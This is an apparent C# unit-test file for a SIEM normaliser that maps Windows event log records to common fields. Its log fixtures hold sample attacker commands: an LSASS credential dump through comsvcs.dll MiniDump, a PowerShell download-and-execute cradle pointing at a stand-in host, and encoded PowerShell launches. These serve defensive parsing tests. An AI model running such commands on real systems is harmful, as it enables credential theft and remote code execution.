using Llama3Siem.Prompts.Events;
using static Llama3Siem.Prompts.Tests.Events.EventParsing;

namespace Llama3Siem.Prompts.Tests.Events;

public sealed class WindowsEventNormaliserTests
{
    [Fact]
    public void Sysmon_process_create_maps_image_command_line_parent_and_user()
    {
        var e = Parsed("""
            {"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","SourceName":"Microsoft-Windows-Sysmon","Hostname":"WS-FIN-07",
             "TimeCreated":"2026-03-02 09:20:11.480","UtcTime":"2026-03-02 09:20:11.478","RuleName":"technique_id=T1059.001",
             "Image":"C:\\Windows\\System32\\rundll32.exe","CommandLine":"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Temp\\d.bin full",
             "ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"CORP\\jdoe","Message":"Process Create: ..."}
            """);

        Assert.Equal(EventFormats.Windows, e.Format);
        Assert.Equal("WS-FIN-07", e.Host);
        Assert.Equal("CORP\\jdoe", e.User);
        Assert.Equal("C:\\Windows\\System32\\rundll32.exe", e.ProcessName);
        Assert.Contains("comsvcs.dll", e.CommandLine, StringComparison.Ordinal);
        Assert.Equal("C:\\Windows\\System32\\cmd.exe", e.ParentProcessName);
        Assert.Equal("Sysmon 1: process create (technique_id=T1059.001)", e.RuleName);
        Assert.Equal("1", e.Action);
        Assert.Equal(new DateTimeOffset(2026, 3, 2, 9, 20, 11, 480, TimeSpan.Zero), e.Timestamp);
    }

    [Fact]
    public void Sysmon_process_access_takes_the_accessing_process_and_its_user()
    {
        var e = Parsed("""
            {"EventID":"10","Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS-FIN-07","UtcTime":"2026-03-02 09:20:11.901",
             "SourceImage":"C:\\Windows\\System32\\rundll32.exe","TargetImage":"C:\\Windows\\System32\\lsass.exe","GrantedAccess":"0x1FFFFF","RuleName":"-",
             "SourceUser":"CORP\\jdoe","TargetUser":"NT AUTHORITY\\SYSTEM"}
            """);

        Assert.Equal("C:\\Windows\\System32\\rundll32.exe", e.ProcessName);
        Assert.Equal("CORP\\jdoe", e.User);
        Assert.Equal("Sysmon 10: process access", e.RuleName);
        Assert.Equal("0x1FFFFF", e.Fields["GrantedAccess"]);
        Assert.Equal("C:\\Windows\\System32\\lsass.exe", e.Fields["TargetImage"]);
    }

    [Fact]
    public void A_network_logon_uses_the_target_account_and_the_client_address()
    {
        var e = Parsed("""
            {"EventID":4624,"Channel":"Security","Hostname":"SRV-FILE02.corp.example","TimeCreated":"2026-03-02 10:02:00.100",
             "SubjectUserName":"-","SubjectDomainName":"-","TargetUserName":"svc_backup","TargetDomainName":"CORP","LogonType":"3",
             "IpAddress":"10.20.1.57","IpPort":"50122","ProcessName":"-","WorkstationName":"WS-FIN-07"}
            """);

        Assert.Equal("CORP\\svc_backup", e.User);
        Assert.Equal(("10.20.1.57", 50122), (e.SourceAddress, e.SourcePort));
        Assert.Null(e.ProcessName);
        Assert.Equal("Security 4624: logon", e.RuleName);
    }

    [Theory]
    [InlineData("-", "0", null, null)]
    [InlineData("::1", "0", "::1", null)]
    [InlineData("127.0.0.1", "61000", "127.0.0.1", 61000)]
    [InlineData("::ffff:10.20.1.57", "51000", "10.20.1.57", 51000)]
    [InlineData("WS-FIN-07", "-", null, null)]
    public void Logon_addresses_dash_means_absent_loopback_is_kept_and_mapped_ipv4_is_unwrapped(
        string ipAddress, string ipPort, string? expectedAddress, int? expectedPort)
    {
        var e = Parsed($$"""{"EventID":4625,"Channel":"Security","Hostname":"SRV-DC01","TargetUserName":"administrator","IpAddress":"{{ipAddress}}","IpPort":"{{ipPort}}"}""");

        Assert.Equal(expectedAddress, e.SourceAddress);
        Assert.Equal(expectedPort, e.SourcePort);
        Assert.Equal("Security 4625: failed logon", e.RuleName);
    }

    [Fact]
    public void Subject_account_acts_where_the_target_is_an_object()
    {
        var e = Parsed("""{"EventID":4732,"Channel":"Security","Hostname":"SRV-DC01","SubjectUserName":"it-admin","SubjectDomainName":"CORP","TargetUserName":"Administrators","TargetDomainName":"Builtin"}""");

        Assert.Equal("CORP\\it-admin", e.User);
        Assert.Equal("Security 4732: member added to security-enabled local group", e.RuleName);
    }

    [Fact]
    public void Service_installs_give_the_service_binary_as_command_line()
    {
        var system = Parsed("""{"EventID":7045,"Channel":"System","SourceName":"Service Control Manager","Hostname":"SRV-FILE02","ServiceName":"UpdSvc","ImagePath":"%COMSPEC% /c C:\\ProgramData\\upd.exe","AccountName":"jdoe","Domain":"CORP"}""");
        var security = Parsed("""{"EventID":4697,"Channel":"Security","Hostname":"SRV-FILE02","ServiceName":"UpdSvc","ServiceFileName":"C:\\ProgramData\\upd.exe","SubjectUserName":"jdoe","SubjectDomainName":"CORP"}""");

        Assert.Equal("%COMSPEC% /c C:\\ProgramData\\upd.exe", system.CommandLine);
        Assert.Equal("CORP\\jdoe", system.User);
        Assert.Equal("System 7045: service installed", system.RuleName);
        Assert.Equal("C:\\ProgramData\\upd.exe", security.CommandLine);
        Assert.Equal("UpdSvc", security.Fields["ServiceName"]);
        Assert.Equal("Security 4697: service installed", security.RuleName);
    }

    [Fact]
    public void A_scheduled_task_gives_its_command_and_arguments()
    {
        var e = Parsed("""{"EventID":4698,"Channel":"Security","Hostname":"SRV-FILE02","SubjectUserName":"jdoe","TaskName":"\\Upd","TaskContent":"<Task><Actions><Exec><Command>C:\\ProgramData\\upd.exe</Command><Arguments>-k &quot;net&quot;</Arguments></Exec></Actions></Task>"}""");

        Assert.Equal("C:\\ProgramData\\upd.exe -k \"net\"", e.CommandLine);
    }

    [Fact]
    public void PowerShell_script_blocks_and_host_applications_become_the_command_line()
    {
        var block = Parsed("""{"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Hostname":"WS-FIN-07","ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"}""");
        var engine = Parsed("""{"EventID":400,"Channel":"Windows PowerShell","Hostname":"WS-FIN-07","Message":"Engine state is changed from None to Available.\r\n\r\nDetails:\r\n\tHostName=ConsoleHost\r\n\tHostApplication=powershell.exe -nop -enc SQBFAFgA\r\n\tEngineVersion=5.1"}""");
        var module = Parsed("""{"EventID":4103,"Channel":"Microsoft-Windows-PowerShell/Operational","Hostname":"WS-FIN-07","ContextInfo":"        Severity = Informational\r\n        Host Application = powershell.exe -nop -enc SQBFAFgA\r\n        Engine Version = 5.1"}""");

        Assert.StartsWith("IEX (New-Object", block.CommandLine, StringComparison.Ordinal);
        Assert.Equal("PowerShell 4104: script block logging", block.RuleName);
        Assert.Equal("powershell.exe -nop -enc SQBFAFgA", engine.CommandLine);
        Assert.Equal("PowerShell 400: engine started", engine.RuleName);
        Assert.Equal("powershell.exe -nop -enc SQBFAFgA", module.CommandLine);
    }

    [Fact]
    public void Unknown_ids_are_described_by_channel_and_number()
    {
        var e = Parsed("""{"EventID":4658,"Channel":"security","Hostname":"WS-FIN-07"}""");

        Assert.Equal("Security 4658", e.RuleName);
        Assert.True(e.TimestampIsFallback);
        Assert.Equal(ReadTime, e.Timestamp);
    }

    [Fact]
    public void Time_created_wins_then_utc_time_then_the_collector_timestamp()
    {
        var all = Parsed("""{"EventID":3,"Channel":"Microsoft-Windows-Sysmon/Operational","TimeCreated":"2026-03-02 09:00:00.000","UtcTime":"2026-03-02 09:00:01.000","@timestamp":"2026-03-02T09:00:03Z","EventTime":"2026-03-02 04:00:00"}""");
        var noTimeCreated = Parsed("""{"EventID":3,"Channel":"Microsoft-Windows-Sysmon/Operational","UtcTime":"2026-03-02 09:00:01.000","@timestamp":"2026-03-02T09:00:03Z","EventTime":"2026-03-02 04:00:00"}""");
        var collectorOnly = Parsed("""{"EventID":5156,"Channel":"Security","@timestamp":"2026-03-02T09:00:03Z","EventTime":"2026-03-02 04:00:00"}""");

        Assert.Equal(new DateTimeOffset(2026, 3, 2, 9, 0, 0, TimeSpan.Zero), all.Timestamp);
        Assert.Equal(new DateTimeOffset(2026, 3, 2, 9, 0, 1, TimeSpan.Zero), noTimeCreated.Timestamp);
        Assert.Equal(new DateTimeOffset(2026, 3, 2, 9, 0, 3, TimeSpan.Zero), collectorOnly.Timestamp);
    }

    [Fact]
    public void The_windows_filtering_platform_connection_maps_both_endpoints()
    {
        var e = Parsed("""{"EventID":5156,"Channel":"Security","Hostname":"WS-FIN-07","Application":"\\device\\harddiskvolume2\\windows\\system32\\svchost.exe","SourceAddress":"10.20.1.57","SourcePort":"50110","DestAddress":"10.20.0.10","DestPort":"445"}""");

        Assert.Equal(("10.20.1.57", 50110, "10.20.0.10", 445), (e.SourceAddress, e.SourcePort, e.DestinationAddress, e.DestinationPort));
        Assert.Equal("\\device\\harddiskvolume2\\windows\\system32\\svchost.exe", e.ProcessName);
    }

    [Fact]
    public void Winlogbeat_records_without_ecs_fields_read_their_event_data()
    {
        var e = Parsed("""{"@timestamp":"2026-03-02T09:30:00Z","winlog":{"event_id":1,"channel":"Microsoft-Windows-Sysmon/Operational","computer_name":"WS-HR-02","event_data":{"Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /all","User":"CORP\\asmith"}}}""");

        Assert.Equal(EventFormats.Windows, e.Format);
        Assert.Equal("WS-HR-02", e.Host);
        Assert.Equal("whoami /all", e.CommandLine);
        Assert.Equal("CORP\\asmith", e.User);
        Assert.Equal("Sysmon 1: process create", e.RuleName);
    }
}
